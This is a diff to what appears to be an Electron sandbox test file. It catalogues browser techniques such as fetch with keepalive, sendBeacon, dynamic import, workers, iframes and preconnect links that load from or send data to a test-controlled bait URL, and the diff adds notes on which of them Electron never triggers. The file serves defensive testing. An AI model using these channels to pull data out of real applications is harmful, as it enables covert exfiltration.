@@ -1,6 +1,8 @@
 // Attacks that try to load something, or to send something away by loading it. What gets out is seen at the bait.
 import type { Attack, Bait } from '../attacks.ts';
 
+const NO_PRECONNECT = 'Electron itself connects to nothing beforehand';
+
 interface Planted {
   readonly to: 'http' | 'https';
   readonly tag: string;
@@ -25,9 +27,7 @@ const element = (
 function plant(bait: Bait, { tag, attribute, more, to }: Planted): void {
   const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
   const isPartOfSvg = tag.startsWith('svg:');
-  const planted = isPartOfSvg
-    ? document.createElementNS(svg.namespaceURI, tag.slice(4))
-    : document.createElement(tag);
+  const planted = isPartOfSvg ? document.createElementNS(svg.namespaceURI, tag.slice(4)) : document.createElement(tag);
   for (const [key, value] of Object.entries(more)) planted.setAttribute(key, value);
   planted.setAttribute(attribute, bait[to]);
   svg.append(planted);
@@ -37,8 +37,15 @@ function plant(bait: Bait, { tag, attribute, more, to }: Planted): void {
 export const loadAttacks: readonly Attack[] = [
   { name: 'fetch http', run: (bait) => void fetch(bait.http, { mode: 'no-cors' }).catch(() => undefined) },
   { name: 'fetch https', run: (bait) => void fetch(bait.https, { mode: 'no-cors' }).catch(() => undefined) },
-  { name: 'fetch that outlives the page', run: (bait) => void fetch(bait.http, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }) },
-  { name: 'fetch file', run: async (bait) => (await (await fetch(bait.file)).text()).length > 0, unseen: 'fetch never reads files' },
+  {
+    name: 'fetch that outlives the page',
+    run: (bait) => void fetch(bait.http, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'x' }),
+  },
+  {
+    name: 'fetch file',
+    run: async (bait) => (await (await fetch(bait.file)).text()).length > 0,
+    unseen: 'fetch never reads files',
+  },
   {
     name: 'XMLHttpRequest',
     run: (bait) => {
@@ -61,8 +68,16 @@ export const loadAttacks: readonly Attack[] = [
   { name: 'EventSource', run: (bait) => void new EventSource(bait.http) },
   { name: 'beacon', run: (bait) => void navigator.sendBeacon(bait.http, 'x') },
   { name: 'module from http', run: (bait) => void import(bait.http).catch(() => undefined) },
-  { name: 'worker from http', run: (bait) => void new Worker(bait.http), unseen: 'a worker must be of the same origin' },
-  { name: 'cache that fetches', run: async (bait) => void (await (await caches.open('x')).add(bait.http)), unseen: 'a page from a file has no cache' },
+  {
+    name: 'worker from http',
+    run: (bait) => void new Worker(bait.http),
+    unseen: 'a worker must be of the same origin',
+  },
+  {
+    name: 'cache that fetches',
+    run: async (bait) => void (await (await caches.open('x')).add(bait.http)),
+    unseen: 'a page from a file has no cache',
+  },
   {
     name: 'WebTransport',
     unseen: 'needs a server with a certificate that Chromium trusts',
@@ -86,13 +101,13 @@ export const loadAttacks: readonly Attack[] = [
   element('frame from http', 'iframe', 'src'),
   element('object', 'object', 'data'),
   element('embed', 'embed', 'src'),
-  element('webview', 'webview', 'src'),
+  element('webview', 'webview', 'src', {}, { unseen: 'the driver of the tests cannot go on after one' }),
   element('style sheet', 'link', 'href', { rel: 'stylesheet' }),
   element('icon', 'link', 'href', { rel: 'icon' }, { unseen: 'Electron leaves icons alone' }),
   element('preload', 'link', 'href', { rel: 'preload', as: 'image' }),
   element('module preload', 'link', 'href', { rel: 'modulepreload' }),
   element('prefetch', 'link', 'href', { rel: 'prefetch' }),
-  element('preconnect', 'link', 'href', { rel: 'preconnect' }, { to: 'https' }),
+  element('preconnect', 'link', 'href', { rel: 'preconnect' }, { to: 'https', unseen: NO_PRECONNECT }),
   element('manifest', 'link', 'href', { rel: 'manifest' }, { unseen: 'Electron leaves manifests alone' }),
   {
     name: 'name lookup by dns-prefetch',
@@ -105,6 +120,7 @@ export const loadAttacks: readonly Attack[] = [
   },
   {
     name: 'name lookup by preconnect',
+    unseen: NO_PRECONNECT,
     run: (bait) => {
       const link = document.createElement('link');
       link.rel = 'preconnect';
